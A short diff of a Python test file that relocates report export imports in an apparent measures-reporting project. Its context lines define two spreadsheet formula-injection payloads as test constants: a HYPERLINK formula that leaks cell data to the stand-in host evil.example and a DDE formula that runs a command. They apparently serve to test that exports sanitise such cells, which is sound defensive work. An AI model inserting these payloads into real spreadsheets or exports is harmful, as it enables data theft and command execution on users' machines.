@@ -10,9 +10,9 @@ from docx import Document
 from openpyxl import load_workbook
 
 from prongsai.exports.cells import clean_text, csv_cell, looks_like_formula
-from prongsai.exports.measures_docx import report_docx
-from prongsai.exports.measures_xlsx import INFO_SHEET, MEASURES_SHEET, report_xlsx
 from prongsai.measures.document import Cell, Measure, Numbering, ReportDocument, Row
+from prongsai.measures.report_docx import report_docx
+from prongsai.measures.report_xlsx import INFO_SHEET, MEASURES_SHEET, report_xlsx
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
 DDE = "=cmd|' /C calc'!A0"
